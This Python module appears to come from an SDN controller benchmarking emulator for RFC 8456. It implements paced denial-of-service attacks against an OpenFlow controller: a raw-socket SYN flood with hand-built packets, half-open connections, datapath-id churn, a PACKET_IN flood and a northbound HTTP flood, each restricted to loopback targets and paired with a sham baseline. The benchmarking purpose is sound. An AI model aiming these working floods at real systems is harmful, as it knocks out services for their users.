"""Denial-of-service attacks for RFC 8456 §5.3.2, and their shams: ``python -m emulator.attack KIND ...``.

One attack runs in a process of its own (Twisted's reactor), paced at a target rate, and stops by itself when
its count or its time is used up, or on SIGTERM/SIGINT.  It prints two JSON lines on standard output: one when
the attack is under way (``{"event": "started", ...}``), one with what it achieved when it ends
(``{"event": "result", ...}``).  Every attack goes to a loopback address only.

Attacks (the interface attacked, the nature of the attack):

* ``syn`` (southbound): TCP SYNs from an emulated switch's own loopback address to the controller's OpenFlow
  port, through a raw socket (needs root or CAP_NET_RAW).  Source ports lie below the ephemeral range, so no
  SYN names a real session.  Sham: the same SYNs to a closed port (the kernel answers RST).
* ``half-open`` (southbound): TCP connections to the OpenFlow port that never send HELLO, held open until the
  attack ends.  Sham: the same connects to a closed port.
* ``dpid-churn`` (southbound): OpenFlow handshakes, each with a fresh datapath id, closed once the controller
  has its FEATURES_REPLY.  Sham: the same connects to a closed port.
* ``packet-in`` (southbound): PACKET_INs with a new source MAC each, from one attacker switch (a datapath id
  of its own, handshaken first).  Sham: the same messages to a discard sink in this process.
* ``northbound``: continuous flow-entry (or topology) queries to the controller's northbound, keep-alive
  connections, at most ``--concurrency`` outstanding.  Sham: the same requests to a stub HTTP sink in this
  process.

The sham is there because attacker, controller and emulator share the machine's CPUs: the sham costs the
attacker side what the attack costs it, so "sham" against "attack" is the controller's own degradation.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import os
import random
import signal
import socket
import struct
import sys
import time
from dataclasses import asdict, dataclass, field
from typing import Callable, NamedTuple, Optional
from urllib.parse import urlsplit

from . import codec
from .params import loopback_address, parse_endpoint
from .protocol import PushProducer, SessionRules
from .testports import checksum


class Kind(NamedTuple):
    interface: str
    unit: str
    rate: float             # the default target rate
    nature: str
    sham: str
    closed_loop: bool       # sends wait for the controller (its answers, its reading): a slow one holds the rate down


KINDS = {
    "syn": Kind("southbound", "SYN/s", 20000.0,
                "TCP SYN flood from an emulated switch's loopback address to the OpenFlow port (raw socket)",
                "the same SYNs to a closed port", False),
    "half-open": Kind("southbound", "connections/s", 200.0,
                      "TCP connections to the OpenFlow port that never send HELLO, held open",
                      "the same connects to a closed port", False),
    "dpid-churn": Kind("southbound", "handshakes/s", 20.0,
                       "OpenFlow handshakes each with a fresh datapath id, closed after FEATURES_REPLY",
                       "the same connects to a closed port", True),
    "packet-in": Kind("southbound", "PACKET_IN/s", 20000.0,
                      "PACKET_IN flood with unique source MACs from one attacker switch",
                      "the same messages to a discard sink", True),
    "northbound": Kind("northbound", "requests/s", 200.0,
                       "continuous flow-entry queries to the northbound (HTTP keep-alive)",
                       "the same requests to a stub HTTP sink", True),
}
SYN_SOURCE_PORTS = (1024, 1024 + 16384)    # below Linux's ephemeral range (32768-60999): no real session's port
CHURN_DPID_BASE = 0xD05C_0000_0000          # datapath ids no emulated topology uses
ATTACKER_DPID = 0xA77A_C4E5
CHURN_DPID_SPAN = 1 << 32


def is_attacker_dpid(dpid: int) -> bool:
    """Datapath ids the attacks use, reserved: no emulated topology has them, and a northbound view that lists
    them (the packet-in attacker, churned switches) is compared without them."""
    return dpid == ATTACKER_DPID or CHURN_DPID_BASE <= dpid < CHURN_DPID_BASE + CHURN_DPID_SPAN


TICK_S = 0.001
MAX_BATCH = 4096      # sends per tick at most, so a rate the attacker cannot reach never overruns its time bound
CHURN_IN_FLIGHT = 64


class AttackError(RuntimeError):
    """The attack cannot run; the message says why."""


def raw_socket_problem() -> Optional[str]:
    """None when this process may open a raw IP socket, else why not (one sentence)."""
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    except PermissionError:
        return (f"a raw IP socket needs root or CAP_NET_RAW (this process runs as uid {os.geteuid()} without "
                "that capability)")
    except OSError as exc:
        return f"a raw IP socket could not be opened: {exc}"
    s.close()
    return None


def closed_port(host: str = "127.0.0.1") -> int:
    """A TCP port on ``host`` that nothing listens on (bound, then released)."""
    s = socket.socket()
    try:
        s.bind((host, 0))
        return s.getsockname()[1]
    finally:
        s.close()


def syn_packet(src: str, dst: str, sport: int, dport: int, seq: int, ident: int = 0) -> bytes:
    """An IPv4 packet holding one TCP SYN (MSS option), both checksums set."""
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    options = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (5 + len(options) // 4) << 4, 0x02, 64240, 0, 0) + options
    pseudo = s + d + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ident, 0, 64, socket.IPPROTO_TCP, 0, s, d)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def syn_packets(src: str, dst: str, dport: int, n: int = 4096, seed: int = 8456) -> list:
    """``n`` SYNs built once, one source port each (cycled by the flood)."""
    rnd = random.Random(seed)
    low, high = SYN_SOURCE_PORTS
    return [syn_packet(src, dst, low + i % (high - low), dport, rnd.getrandbits(32), i & 0xFFFF) for i in range(n)]


def flood_frame(index: int) -> bytes:
    """A 60-byte frame (the Ethernet minimum without FCS), IPv4/UDP to the discard port of an unknown unicast MAC,
    its source MAC unique per ``index``."""
    src = b"\x02\xa7" + struct.pack("!I", index & 0xFFFFFFFF)
    dst = b"\x02\xa7\xff\x00\x00\x01"
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 46, 0, 0, 64, 17, 0, bytes([10, 167, 0, 1]), bytes([10, 167, 0, 2]))
    udp = struct.pack("!HHHH", 9, 9, 26, 0)
    return dst + src + b"\x08\x00" + ip + udp + bytes(18)


def flood_packet_in(version: int, index: int) -> bytes:
    return codec.encode_packet_in(version, (index + 1) & 0xFFFFFFFF, codec.NO_BUFFER, 1, flood_frame(index))


@dataclass
class Pacer:
    """How many sends are due ``elapsed`` seconds in, at ``rate``/s, never more than ``count``."""
    rate: float
    count: int

    def due(self, elapsed: float) -> int:
        return min(self.count, int(elapsed * self.rate) + 1) if elapsed >= 0 else 0


@dataclass
class Stats:
    kind: str
    sham: bool
    target: str
    target_rate: float
    unit: str
    max_count: int
    max_seconds: float
    sent: int = 0
    skipped: int = 0            # due but not sent: the controller held the attacker back (full socket, answers due)
    answered: int = 0
    errors: dict = field(default_factory=dict)
    seconds: float = 0.0
    sending_seconds: Optional[float] = None    # half-open: when its count was reached (then it only holds)
    stopped_by: str = ""
    notes: list = field(default_factory=list)
    latency_ms: list = field(default_factory=list)

    def error(self, what: str, n: int = 1) -> None:
        self.errors[what] = self.errors.get(what, 0) + n

    def result(self) -> dict:
        out = asdict(self)
        lat = sorted(out.pop("latency_ms"))
        secs = self.sending_seconds if self.sending_seconds else self.seconds
        out["achieved_rate"] = self.sent / secs if secs > 0 else 0.0
        out["achieved_share"] = out["achieved_rate"] / self.target_rate if self.target_rate else None
        if lat:
            out["answer_median_ms"] = lat[len(lat) // 2]
            out["answered_with_latency"] = len(lat)
        return out


class Attack:
    """Base: ``start()`` sets up (may return a Deferred), ``send(n)`` sends ``n`` more, ``stop()`` tears down."""
    def __init__(self, spec, stats: Stats, reactor):
        self.spec, self.stats, self.reactor = spec, stats, reactor

    def start(self):
        return None

    def send(self, n: int) -> None:
        raise NotImplementedError

    def stop(self) -> None:
        pass


class SynFlood(Attack):
    def start(self):
        problem = raw_socket_problem()
        if problem:
            raise AttackError(problem)
        host, port = self.spec.target
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.sock.setblocking(False)
        self.packets = syn_packets(self.spec.source, host, port, seed=self.spec.seed)
        self.dest = (host, 0)

    def send(self, n: int) -> None:
        packets, sock, i = self.packets, self.sock, self.stats.sent
        for k in range(n):
            try:
                sock.sendto(packets[(i + k) % len(packets)], self.dest)
            except BlockingIOError:
                self.stats.error("socket buffer full (ENOBUFS/EAGAIN)")
                self.stats.sent += k
                return
            except OSError as exc:
                self.stats.error(f"sendto: {exc.strerror or exc}")
                self.stats.sent += k
                return
        self.stats.sent += n

    def stop(self) -> None:
        self.sock.close()


class Connects(Attack):
    """``half-open`` (hold silent connections) and the connect shams (to a closed port)."""
    def start(self):
        from twisted.internet.protocol import ClientFactory, Protocol

        stats, held = self.stats, []
        self.held = held

        class Silent(Protocol):
            def connectionMade(self):
                stats.answered += 1
                held.append(self.transport)

        class Factory(ClientFactory):
            protocol = Silent

            def clientConnectionFailed(self, connector, reason):
                stats.error(type(reason.value).__name__)

        self.factory = Factory()

    def send(self, n: int) -> None:
        host, port = self.spec.target
        for _ in range(n):
            self.reactor.connectTCP(host, port, self.factory, timeout=5, bindAddress=(self.spec.source, 0))
        self.stats.sent += n

    def stop(self) -> None:
        for t in self.held:
            t.abortConnection()


class DpidChurn(Attack):
    def start(self):
        from twisted.internet.protocol import ClientFactory

        from .protocol import SessionListener, SwitchProtocol, SwitchSpec

        attack, stats = self, self.stats
        self.in_flight = 0

        class Listener(SessionListener):
            def session_ready(self, session):
                stats.answered += 1
                session.abort("local", "churn: closed after the handshake")

            def session_closed(self, session, kind, detail):
                attack.in_flight -= 1
                if not session.ready:
                    stats.error(f"handshake not completed ({kind})")

        listener = Listener()

        class Factory(ClientFactory):
            def buildProtocol(self, addr):
                attack.index += 1
                spec = SwitchSpec.simple(CHURN_DPID_BASE + attack.index, versions=(attack.spec.openflow,))
                return SwitchProtocol(spec, attack.reactor, listener, SessionRules(handshake_timeout=5.0))

            def clientConnectionFailed(self, connector, reason):
                attack.in_flight -= 1
                stats.error(type(reason.value).__name__)

        self.index = 0
        self.factory = Factory()

    def send(self, n: int) -> None:
        host, port = self.spec.target
        for _ in range(n):
            if self.in_flight >= CHURN_IN_FLIGHT:
                self.stats.skipped += 1     # CHURN_IN_FLIGHT handshakes still waiting for the controller
                continue
            self.in_flight += 1
            self.reactor.connectTCP(host, port, self.factory, timeout=5, bindAddress=(self.spec.source, 0))
            self.stats.sent += 1


class PacketInFlood(PushProducer, Attack):
    """Registered as its connection's producer (TCP flow control): while the controller's socket is full, due
    messages are skipped, not queued in this process, so ``sent`` is what the controller's side took."""

    def start(self):
        from twisted.internet import defer, protocol

        from .protocol import SessionListener, SwitchProtocol, SwitchSpec

        host, port = self.spec.target
        ready: defer.Deferred = defer.Deferred()
        stats, version = self.stats, self.spec.openflow
        self.version = version
        if self.spec.sham:
            class Discard(protocol.Protocol):
                def dataReceived(self, data):
                    pass

            server = protocol.ServerFactory()
            server.protocol = Discard
            self.sink = self.reactor.listenTCP(0, server, interface="127.0.0.1")
            host, port = "127.0.0.1", self.sink.getHost().port
            self.stats.target = f"{host}:{port} (discard sink)"
            client = protocol.ClientCreator(self.reactor, protocol.Protocol)
            d = client.connectTCP(host, port, timeout=5)

            def connected(proto):
                self.transport = proto.transport
                self.transport.registerProducer(self, True)
                return proto
            return d.addCallback(connected)

        class Listener(SessionListener):
            def session_ready(self, session):
                if not ready.called:
                    ready.callback(session)

            def session_closed(self, session, kind, detail):
                stats.notes.append(f"attacker session closed: {kind} {detail}".strip())
                if not ready.called:
                    ready.errback(AttackError(f"the attacker switch's handshake failed: {kind} {detail}".strip()))

        spec = SwitchSpec.simple(self.spec.datapath_id, versions=(version,))
        self.session = SwitchProtocol(spec, self.reactor, Listener())
        factory = protocol.ClientFactory()
        factory.buildProtocol = lambda addr: self.session
        factory.clientConnectionFailed = lambda c, reason: ready.called or ready.errback(
            AttackError(f"the attacker switch could not connect: {reason.getErrorMessage()}"))
        self.reactor.connectTCP(host, port, factory, timeout=5, bindAddress=(self.spec.source, 0))

        def up(session):
            self.transport = session.transport
            self.transport.registerProducer(self, True)
            self.rx_before = session.counters.rx
            return session
        return ready.addCallback(up)

    def send(self, n: int) -> None:
        if self.paused:
            self.stats.skipped += n
            return
        i = self.stats.sent
        self.transport.write(b"".join(flood_packet_in(self.version, i + k) for k in range(n)))
        self.stats.sent += n

    def stop(self) -> None:
        session = getattr(self, "session", None)
        if session is not None:
            self.stats.answered = session.counters.rx - self.rx_before
            self.stats.notes.append("answers by type: " + json.dumps(session.counters.by_name, sort_keys=True))
        if getattr(self, "transport", None) is not None:
            self.transport.abortConnection()
        if getattr(self, "sink", None) is not None:
            self.sink.stopListening()


class NorthboundFlood(Attack):
    def start(self):
        from twisted.web.client import Agent, HTTPConnectionPool, readBody
        from twisted.web.http_headers import Headers

        url = self.spec.url
        if not url:
            raise AttackError("the northbound attack needs --url (the controller has no northbound)")
        if self.spec.sham:
            from twisted.web import resource, server

            class Stub(resource.Resource):
                isLeaf = True

                def render_GET(self, request):
                    request.setHeader(b"content-type", b"application/json")
                    return b"{}"

            self.sink = self.reactor.listenTCP(0, server.Site(Stub()), interface="127.0.0.1")
            parts = urlsplit(url)
            url = f"http://127.0.0.1:{self.sink.getHost().port}{parts.path or '/'}"
            self.stats.target = f"{url} (stub sink)"
        self.url = url.encode()
        self.pool = HTTPConnectionPool(self.reactor, persistent=True)
        self.pool.maxPersistentPerHost = self.spec.concurrency
        self.agent = Agent(self.reactor, pool=self.pool, connectTimeout=5)
        self.headers = Headers({b"Accept": [b"application/json"]})
        if self.spec.auth:
            import base64
            self.headers.addRawHeader(b"Authorization", b"Basic " + base64.b64encode(self.spec.auth.encode()))
        self.read_body = readBody
        self.outstanding = 0

    def send(self, n: int) -> None:
        stats = self.stats
        for _ in range(n):
            if self.outstanding >= self.spec.concurrency:
                stats.skipped += 1      # closed loop, at most ``concurrency`` deep: the controller is behind
                continue
            self.outstanding += 1
            stats.sent += 1
            t0 = time.monotonic()
            d = self.agent.request(b"GET", self.url, self.headers)

            def answered(response, t0=t0):
                if 200 <= response.code < 300:
                    stats.answered += 1
                else:
                    stats.error(f"HTTP {response.code}")
                return self.read_body(response).addCallback(lambda _: stats.latency_ms.append(
                    (time.monotonic() - t0) * 1e3))

            def failed(failure):
                stats.error(type(failure.value).__name__)

            def done(_):
                self.outstanding -= 1
            d.addCallback(answered).addErrback(failed).addBoth(done)

    def stop(self) -> None:
        self.pool.closeCachedConnections()
        if getattr(self, "sink", None) is not None:
            self.sink.stopListening()


ATTACKS = {"syn": SynFlood, "half-open": Connects, "dpid-churn": DpidChurn, "packet-in": PacketInFlood,
           "northbound": NorthboundFlood}


@dataclass(frozen=True)
class AttackSpec:
    kind: str
    target: tuple               # (host, port): the controller's OpenFlow endpoint
    rate: float
    seconds: float
    count: int = 0              # 0: rate × seconds
    sham: bool = False
    source: str = "127.0.0.1"
    url: str = ""
    auth: str = ""
    concurrency: int = 8
    openflow: int = codec.OFP13
    datapath_id: int = ATTACKER_DPID
    seed: int = 8456

    def problems(self) -> list:
        out = []
        if self.kind not in KINDS:
            out.append(f"attack {self.kind!r} is not one of {', '.join(KINDS)}")
        if not self.rate > 0 or not self.seconds > 0:
            out.append(f"an attack needs a positive rate and duration (got {self.rate}/s for {self.seconds} s)")
        for what, host in (("target", self.target[0]), ("source", self.source)):
            try:
                loop = ipaddress.ip_address(host).is_loopback
            except ValueError:
                loop = False
            if not loop:
                out.append(f"the attack's {what} {host} is not a loopback address (127.0.0.0/8): attacks stay local")
        if self.url and not self.url.startswith("http://127."):
            out.append(f"the northbound attack's URL {self.url} is not on 127.0.0.0/8")
        return out

    def max_count(self) -> int:
        return self.count or max(1, int(self.rate * self.seconds))

    def effective(self) -> "AttackSpec":
        """The spec with a sham's target: a closed port for the connect-level attacks."""
        if self.sham and self.kind in ("syn", "half-open", "dpid-churn"):
            return AttackSpec(**{**asdict(self), "target": (self.target[0], closed_port(self.target[0]))})
        return self


class AttackRun:
    """One attack from its start to its result: paced by a looping call, ended by its count, its time, its
    failure to start or :meth:`finish` (a signal)."""

    def __init__(self, spec: AttackSpec, reactor, emit: Callable[[dict], None], now: Callable[[], float]):
        self.spec = spec.effective()
        host, port = self.spec.target
        self.unit = KINDS[self.spec.kind].unit
        self.stats = Stats(self.spec.kind, self.spec.sham,
                           self.spec.url if self.spec.kind == "northbound" else f"{host}:{port}", self.spec.rate,
                           self.unit, self.spec.max_count(), self.spec.seconds)
        self.attack = ATTACKS[self.spec.kind](self.spec, self.stats, reactor)
        self.pacer = Pacer(self.spec.rate, self.spec.max_count())
        self.reactor, self.emit, self.now = reactor, emit, now
        self.t0: Optional[float] = None
        self.loop = None
        self.done = False

    def start(self) -> None:
        from twisted.internet import defer

        d = defer.maybeDeferred(self.attack.start)
        d.addCallback(self._begin).addErrback(self._failed)

    def finish(self, why: str) -> None:
        if self.done:
            return
        self.done = True
        if self.loop is not None and self.loop.running:
            self.loop.stop()
        stats = self.stats
        if self.t0 is not None:
            stats.seconds = self.now() - self.t0
        stats.stopped_by = why
        try:
            self.attack.stop()
        except Exception as exc:     # noqa: BLE001 - the result is still worth printing
            stats.notes.append(f"stop: {type(exc).__name__}: {exc}")
        self.emit({"event": "result", **stats.result()})
        self.reactor.callLater(0.2, self.reactor.stop)    # let closes reach the kernel

    def _tick(self) -> None:
        stats, spec = self.stats, self.spec
        elapsed = self.now() - self.t0
        if elapsed >= spec.seconds:
            self.finish("time")
            return
        n = min(self.pacer.due(elapsed) - stats.sent - stats.skipped, MAX_BATCH)
        if n > 0:
            self.attack.send(n)
        if stats.sent + stats.skipped >= self.pacer.count:
            if spec.kind != "half-open":
                self.finish("count")
            elif stats.sending_seconds is None:     # held until the time is up or the attack is stopped
                stats.sending_seconds = self.now() - self.t0

    def _begin(self, _) -> None:
        from twisted.internet import task

        if self.done:
            return
        spec = self.spec
        self.t0 = self.now()
        self.emit({"event": "started", "kind": spec.kind, "sham": spec.sham, "target": self.stats.target,
                   "rate": spec.rate, "unit": self.unit, "max_count": self.pacer.count, "max_seconds": spec.seconds})
        self.loop = task.LoopingCall(self._tick)
        self.loop.clock = self.reactor
        self.loop.start(TICK_S, now=True)

    def _failed(self, failure) -> None:
        if self.done:
            return
        self.done = True
        self.emit({"event": "error", "kind": self.spec.kind, "sham": self.spec.sham,
                   "error": failure.getErrorMessage() if failure.check(AttackError) else
                   f"{failure.type.__name__}: {failure.getErrorMessage()}"})
        self.reactor.callLater(0, self.reactor.stop)


def run(spec: AttackSpec, reactor, emit: Callable[[dict], None], now: Callable[[], float] = time.monotonic):
    """Run ``spec`` on ``reactor`` until its count or time is used up or ``stop_now()`` is called; ``emit``
    gets the two events.  Returns a function that stops the attack (a signal handler calls it)."""
    attack_run = AttackRun(spec, reactor, emit, now)
    attack_run.start()
    return lambda: attack_run.finish("signal")


def build_parser() -> argparse.ArgumentParser:
    p = argparse.ArgumentParser(prog="python -m emulator.attack", description=__doc__.splitlines()[0])
    p.add_argument("kind", choices=list(KINDS))
    p.add_argument("--target", type=parse_endpoint, required=True, metavar="HOST:PORT",
                   help="the controller's OpenFlow endpoint")
    p.add_argument("--rate", type=float, help="target rate per second (default: the kind's)")
    p.add_argument("--seconds", type=float, required=True, help="the attack stops by itself after this")
    p.add_argument("--count", type=int, default=0, help="and after this many sends (default rate × seconds)")
    p.add_argument("--sham", action="store_true", help="the sham: the same load where no controller is")
    p.add_argument("--source", type=loopback_address, default="127.0.0.1", help="loopback source address")
    p.add_argument("--url", default="", help="northbound: the URL queried")
    p.add_argument("--auth", default="", help="northbound: user:password for HTTP basic authentication")
    p.add_argument("--concurrency", type=int, default=8, help="northbound: requests outstanding at most")
    p.add_argument("--openflow", type=lambda t: codec.VERSION_BY_NAME[t], default=codec.OFP13, metavar="1.3")
    p.add_argument("--seed", type=int, default=8456)
    return p


def main(argv=None) -> int:
    args = build_parser().parse_args(argv)
    spec = AttackSpec(kind=args.kind, target=args.target, rate=args.rate or KINDS[args.kind].rate,
                      seconds=args.seconds, count=args.count, sham=args.sham, source=args.source, url=args.url,
                      auth=args.auth, concurrency=args.concurrency, openflow=args.openflow, seed=args.seed)

    def emit(obj: dict) -> None:
        sys.stdout.write(json.dumps(obj, separators=(",", ":")) + "\n")
        sys.stdout.flush()

    problems = spec.problems()
    if problems:
        emit({"event": "error", "kind": spec.kind, "sham": spec.sham, "error": "; ".join(problems)})
        return 2
    from twisted.internet import reactor
    stop = run(spec, reactor, emit)
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(sig, lambda *_: reactor.callFromThread(stop))
    reactor.run(installSignalHandlers=False)
    return 0


if __name__ == "__main__":
    sys.exit(main())
